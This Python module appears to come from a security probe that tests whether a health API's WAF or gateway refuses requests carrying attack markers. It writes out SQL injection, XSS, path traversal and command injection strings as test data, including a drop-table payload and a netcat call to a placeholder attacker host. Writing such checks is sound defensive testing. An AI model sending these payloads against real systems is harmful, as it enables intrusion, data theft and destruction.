"""Requirement 7, traffic filtering: a small, safe set of attack markers in a
search parameter and the path is refused before it reaches the API.

The markers are inert strings (no payload runs anything even where it is
not filtered); each family sends a handful of well-known spellings.
"""

from __future__ import annotations

from collections.abc import Callable
from urllib.parse import quote

from kaitiaki.probe.checks.common import fail, passed
from kaitiaki.probe.http import Sent
from kaitiaki.probe.model import Check, Outcome, Severity
from kaitiaki.probe.target import Target

__all__ = ["CHECKS", "MARKERS"]

WAF = ("HNZAS_SHOULD_USE_MESSAGE_ANALYSIS", "HNZAS_MUST_VALIDATE_REQUESTS")
FIX = (
    "Put a WAF or the gateway's message analysis in front of the API and refuse "
    "(400 or 403) requests carrying SQL injection, XSS, traversal or command "
    "injection markers in any part of the request, with a security audit event."
)

MARKERS: dict[str, tuple[str, ...]] = {
    "sqli": ("' OR '1'='1", "1 UNION SELECT NULL,NULL--", "x'; DROP TABLE patient;--"),
    "xss": (
        "<script>alert(1)</script>",
        '"><img src=x onerror=alert(1)>',
        "javascript:alert(document.domain)",
    ),
    "traversal": ("../../../../etc/passwd", "..\\..\\..\\windows\\win.ini"),
    "command-injection": (
        "; cat /etc/passwd",
        "$(id)",
        "`id`",
        "| nc attacker.example 1",
    ),
}


def _judge(sents: list[Sent], family: str) -> Outcome:
    served = [s for s in sents if not 400 <= s.status < 500]
    if served:
        return fail(
            f"{len(served)} of {len(sents)} {family} markers were not refused "
            f"(first: HTTP {served[0].status})",
            served[0],
        )
    return passed(f"all {len(sents)} {family} markers refused", *sents[:2])


def _family(family: str) -> Callable[[Target], Outcome]:
    def run(target: Target) -> Outcome:
        parameter = target.search_parameter()
        sents = [
            target.request(
                "GET", f"{target.read_type}?{parameter}={quote(marker, safe='')}"
            )
            for marker in MARKERS[family]
        ]
        if family == "traversal":
            sents.append(
                target.request("GET", f"{target.read_type}/..%2F..%2F..%2Fetc%2Fpasswd")
            )
        return _judge(sents, family)

    return run


CHECKS: tuple[Check, ...] = tuple(
    Check(
        f"filter.{family}",
        f"{family.replace('-', ' ').capitalize()} markers are refused",
        7,
        WAF,
        Severity.HIGH,
        FIX,
        _family(family),
    )
    for family in MARKERS
)
